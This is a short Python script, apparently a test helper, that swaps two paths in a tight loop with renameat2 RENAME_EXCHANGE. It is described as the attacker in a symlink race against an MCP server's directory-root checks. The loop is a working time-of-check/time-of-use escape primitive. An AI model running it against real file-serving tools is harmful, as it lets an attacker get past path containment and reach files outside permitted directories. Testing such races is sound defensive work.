"""Swap two paths back and forth with renameat2(RENAME_EXCHANGE) as fast as possible: the attacker
of the MCP path race (a folder inside a root swapped for a symlink that leads outside).

Run as a process (no GIL shared with the server): `python race_swapper.py A B` swaps until killed,
printing "ready" once the first swap has been made.
"""

from __future__ import annotations

import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2


def swapper(a: str, b: str):
    libc = ctypes.CDLL(None, use_errno=True)
    fn = libc.renameat2
    fn.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
    ea, eb = os.fsencode(a), os.fsencode(b)

    def swap() -> None:
        if fn(AT_FDCWD, ea, AT_FDCWD, eb, RENAME_EXCHANGE) != 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err), a)
    return swap


def main() -> None:
    swap = swapper(sys.argv[1], sys.argv[2])
    swap()
    swap()
    print("ready", flush=True)
    while True:
        swap()


if __name__ == "__main__":
    main()
